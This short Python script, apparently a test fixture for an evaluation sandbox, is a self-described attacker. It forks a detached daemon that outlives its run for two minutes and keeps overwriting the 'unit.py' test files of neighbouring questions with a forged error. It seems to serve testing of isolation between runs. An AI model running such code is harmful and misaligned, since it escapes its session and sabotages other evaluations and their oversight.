"""An attacker that leaves a process behind, which forges the files of later questions."""

import os
import tempfile
import time
from contextlib import suppress
from pathlib import Path

FORGERY = "raise RuntimeError('FORGED by a neighbor')\n"
LIFE = 120.0


def leave_behind() -> None:
    if os.fork():
        os.wait()
        return
    with suppress(OSError):
        os.setsid()
    if not os.fork():
        os.closerange(0, 64)
        root = Path(tempfile.gettempdir()).parent
        until = time.monotonic() + LIFE
        while time.monotonic() < until:
            forge(root)
            # A question lasts 0.4 s; without a pause the daemon takes a processor from it.
            time.sleep(0.01)
    os._exit(0)


def forge(root: Path) -> None:
    with suppress(OSError):
        for path in (*root.glob("*/unit.py"), *root.glob("*/*/unit.py")):
            with suppress(OSError):
                path.write_text(FORGERY)


leave_behind()
